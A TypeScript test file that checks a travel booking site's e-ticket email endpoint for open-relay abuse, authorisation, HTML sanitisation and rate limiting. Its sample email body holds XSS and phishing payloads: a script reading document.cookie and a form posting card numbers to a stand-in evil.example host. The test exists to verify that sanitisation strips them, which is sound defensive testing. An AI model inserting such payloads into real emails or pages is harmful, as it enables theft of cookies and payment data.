import { BOOKING_DETAILS_MSG } from '@app/contracts';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBooking } from '../../seed/booking-factories';
import { createSite } from '../../seed/factories';
import { call, createTestApp, signIn, type TestApp } from '../../test/test-app';
import { outboxEmails } from '../notifications/outbox.schema';
import type { FlightBookingRow } from './bookings.schema';

const SITE_HOST = 'mail-site.test';

describe('notifications/sendEmailForWl: the e-ticket mail is no open relay', () => {
  let t: TestApp;
  let siteId: string;
  let otherSiteId: string;
  let owner: Awaited<ReturnType<typeof signIn>>;
  let stranger: Awaited<ReturnType<typeof signIn>>;
  let staff: Awaited<ReturnType<typeof signIn>>;
  let otherSiteUser: Awaited<ReturnType<typeof signIn>>;
  let booking: FlightBookingRow;

  const mail = (to: string) => ({
    name: 'Riya Sharma',
    to,
    subject: 'Your e-ticket',
    text: 'PNR ABC123',
    html:
      '<div style="font-family:Arial"><table><tr><td><b>PNR ABC123</b></td></tr></table>' +
      `<img src="http://${SITE_HOST}/app/brand/logo.png" alt="logo">` +
      '<img src="https://tracker.example/pixel.gif" alt="pixel">' +
      '<script>alert(document.cookie)</script>' +
      '<form action="https://evil.example/collect"><input name="card">Card number</form>' +
      '<iframe src="https://evil.example"></iframe>' +
      '<p onmouseover="steal()">Safe travels</p></div>',
  });
  const send = (body: object, token?: string, site = siteId) =>
    call(t.app, 'notifications/sendEmailForWl', body, {
      siteId: site,
      token,
      headers: { host: SITE_HOST },
    });
  const outboxTo = (to: string) =>
    t.db
      .select()
      .from(outboxEmails)
      .where(and(eq(outboxEmails.siteId, siteId), eq(outboxEmails.to, to)));

  beforeAll(async () => {
    t = await createTestApp();
    siteId = (await createSite(t.db, { companyName: 'Mail Travels', domains: [SITE_HOST] })).id;
    otherSiteId = (await createSite(t.db)).id;
    owner = await signIn(t, siteId, { userType: 'travelAgent', companyName: 'Owner Tours' });
    stranger = await signIn(t, siteId, { userType: 'retail' });
    staff = await signIn(t, siteId, { userType: 'staff' });
    otherSiteUser = await signIn(t, otherSiteId, { userType: 'staff' });
    booking = await createBooking(t.db, siteId, owner.user.id);
  });
  afterAll(async () => {
    await t.close();
  });

  it('sends for the owner: sanitised HTML, our own images only, and a footer naming the sender', async () => {
    const to = 'owner-copy@example.test';
    const res = await send({ ...mail(to), siteId, bookingId: booking.id }, owner.token);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ success: true, message: BOOKING_DETAILS_MSG.emailSent });
    const [stored] = await outboxTo(to);
    const html = stored?.html ?? '';
    expect(html).toContain('<table><tr><td><b>PNR ABC123</b></td></tr></table>');
    expect(html).toContain(`<img src="http://${SITE_HOST}/app/brand/logo.png" alt="logo" />`);
    expect(html).toContain('<p>Safe travels</p>');
    expect(html).not.toMatch(
      /<script|alert\(|<form|<input|<iframe|evil\.example|tracker\.example|onmouseover/,
    );
    const sender = `${owner.user.firstName} ${owner.user.lastName}`.trim();
    const footer = `Sent by ${sender} (${owner.user.email}) via Mail Travels.`;
    expect(html).toContain(footer);
    expect(stored?.text).toBe(`PNR ABC123\n\n--\n${footer}`);
  });

  it("lets the site's staff send the ticket of a customer's booking", async () => {
    const to = 'staff-copy@example.test';
    const res = await send({ ...mail(to), siteId, bookingId: booking.id }, staff.token);
    expect(res.status).toBe(200);
    expect((await outboxTo(to))[0]?.text).toContain(`(${staff.user.email}) via Mail Travels.`);
  });

  it("refuses another user of the site sending for someone's booking, and sends nothing", async () => {
    const to = 'victim@example.test';
    const res = await send({ ...mail(to), siteId, bookingId: booking.id }, stranger.token);
    expect(res.status).toBe(404);
    expect(res.body.errorMessage).toBe(BOOKING_DETAILS_MSG.bookingNotFound);
    expect(await outboxTo(to)).toHaveLength(0);
  });

  it("refuses another site's user, whether naming this site or their own", async () => {
    const to = 'victim2@example.test';
    const here = await send({ ...mail(to), siteId, bookingId: booking.id }, otherSiteUser.token);
    expect([401, 403, 404]).toContain(here.status);
    const there = await send(
      { ...mail(to), siteId: otherSiteId, bookingId: booking.id },
      otherSiteUser.token,
      otherSiteId,
    );
    expect(there.status).toBe(404);
    expect(await outboxTo(to)).toHaveLength(0);
  });

  it('refuses a mail without a booking, another site id, a bad address and anonymous callers', async () => {
    const to = 'nobody@example.test';
    expect((await send({ ...mail(to), siteId }, owner.token)).status).toBe(400);
    const other = await send({ ...mail(to), siteId: otherSiteId, bookingId: booking.id }, owner.token);
    expect(other.status).toBe(403);
    const bad = await send({ ...mail('nope'), siteId, bookingId: booking.id }, owner.token);
    expect(bad.status).toBe(400);
    expect((await send({ ...mail(to), siteId, bookingId: booking.id })).status).toBe(401);
    expect(await outboxTo(to)).toHaveLength(0);
  });

  it('stops an account at its 21st e-mail within the hour', async () => {
    const busy = await signIn(t, siteId, { userType: 'travelAgent', companyName: 'Busy Tours' });
    const own = await createBooking(t.db, siteId, busy.user.id);
    const to = 'busy@example.test';
    const sendOne = () => send({ ...mail(to), siteId, bookingId: own.id }, busy.token);
    for (let i = 0; i < 20; i++) expect((await sendOne()).status).toBe(200);
    const refused = await sendOne();
    expect(refused.status).toBe(429);
    expect(refused.body.errorMessage).toBe('You have sent too many e-mails. Please try again later.');
    expect(await outboxTo(to)).toHaveLength(20);
    // The limit is the account's own: the owner of another booking still sends.
    expect(
      (await send({ ...mail('other@example.test'), siteId, bookingId: booking.id }, owner.token)).status,
    ).toBe(200);
  });
});
